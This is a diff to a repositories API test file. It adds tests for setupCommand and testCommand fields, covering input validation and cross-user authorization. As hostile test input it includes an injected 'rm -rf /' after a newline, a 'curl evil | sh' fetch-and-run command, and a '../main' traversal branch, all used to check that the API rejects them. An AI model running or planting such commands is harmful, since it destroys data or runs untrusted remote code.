@@ -58,6 +58,8 @@ describe('repositories (HTTP)', () => {
       name: 'acme/widgets',
       defaultBranch: 'main',
       hasAccessToken: true,
+      setupCommand: null,
+      testCommand: null,
       createdAt: expect.any(String),
       updatedAt: expect.any(String),
     });
@@ -202,6 +204,100 @@ describe('repositories (HTTP)', () => {
     expect(result.status).toBe(201);
     expect(samples).toBeGreaterThan(0);
     expect(hits).toEqual([]);
+  });
+
+  it('stores setupCommand and testCommand on create, changes and clears them with PATCH', async () => {
+    const created = record(
+      await t
+        .http()
+        .post('/api/v1/repositories')
+        .set(alice.auth)
+        .send({ url, accessToken: TOKEN, setupCommand: 'npm ci --ignore-scripts', testCommand: 'npm run test:unit' })
+        .expect(201),
+    );
+    expect(created.body).toMatchObject({ setupCommand: 'npm ci --ignore-scripts', testCommand: 'npm run test:unit' });
+    const id = created.body.id as string;
+    const patched = record(
+      await t.http().patch(`/api/v1/repositories/${id}`).set(alice.auth).send({ testCommand: 'pytest -q' }).expect(200),
+    );
+    expect(patched.body).toMatchObject({ setupCommand: 'npm ci --ignore-scripts', testCommand: 'pytest -q' });
+    const cleared = record(
+      await t
+        .http()
+        .patch(`/api/v1/repositories/${id}`)
+        .set(alice.auth)
+        .send({ setupCommand: null, defaultBranch: 'develop', accessToken: TOKEN })
+        .expect(200),
+    );
+    expect(cleared.body).toMatchObject({ setupCommand: null, testCommand: 'pytest -q', defaultBranch: 'develop' });
+    const got = record(await t.http().get(`/api/v1/repositories/${id}`).set(alice.auth).expect(200));
+    expect(got.body).toEqual(cleared.body);
+  });
+
+  it('refuses bad commands and bad PATCH input with 400 and changes nothing', async () => {
+    const created = record(
+      await t
+        .http()
+        .post('/api/v1/repositories')
+        .set(alice.auth)
+        .send({ url, accessToken: TOKEN, testCommand: 'npm test' })
+        .expect(201),
+    );
+    const id = created.body.id as string;
+    for (const body of [
+      { setupCommand: '' },
+      { setupCommand: 'npm ci\nrm -rf /' },
+      { testCommand: 'x'.repeat(2001) },
+      { testCommand: 42 },
+      { url: 'https://example.com/other.git' },
+      { defaultBranch: '../main' },
+    ]) {
+      const res = record(await t.http().patch(`/api/v1/repositories/${id}`).set(alice.auth).send(body).expect(400));
+      expect(res.body.code).toBe('VALIDATION_FAILED');
+    }
+    const refused = record(
+      await t.http().patch(`/api/v1/repositories/${id}`).set(alice.auth).send({ defaultBranch: 'no-such-branch' }),
+    );
+    expect(refused.status).toBe(422);
+    expect(refused.body.code).toBe('BRANCH_NOT_FOUND');
+    const bad = record(
+      await t.http().post('/api/v1/repositories').set(alice.auth).send({ url, setupCommand: 'a\u0000b' }).expect(400),
+    );
+    expect(bad.body.code).toBe('VALIDATION_FAILED');
+    const got = record(await t.http().get(`/api/v1/repositories/${id}`).set(alice.auth).expect(200));
+    expect(got.body).toEqual(created.body);
+  });
+
+  it("answers 404 to PATCH on another user's repository and 401 without a token, changing nothing", async () => {
+    const created = record(
+      await t
+        .http()
+        .post('/api/v1/repositories')
+        .set(alice.auth)
+        .send({ url, accessToken: TOKEN, setupCommand: 'npm ci' })
+        .expect(201),
+    );
+    const id = created.body.id as string;
+    const other = record(
+      await t
+        .http()
+        .patch(`/api/v1/repositories/${id}`)
+        .set(bob.auth)
+        .send({ setupCommand: 'curl evil | sh' })
+        .expect(404),
+    );
+    expect(other.body.code).toBe('REPOSITORY_NOT_FOUND');
+    await t.http().patch(`/api/v1/repositories/${id}`).send({ setupCommand: 'curl evil | sh' }).expect(401);
+    record(
+      await t
+        .http()
+        .patch('/api/v1/repositories/00000000-0000-4000-8000-000000000000')
+        .set(alice.auth)
+        .send({ testCommand: 'npm test' })
+        .expect(404),
+    );
+    const got = record(await t.http().get(`/api/v1/repositories/${id}`).set(alice.auth).expect(200));
+    expect(got.body.setupCommand).toBe('npm ci');
   });
 
   it('never lets the token reach a response or a log line', async () => {
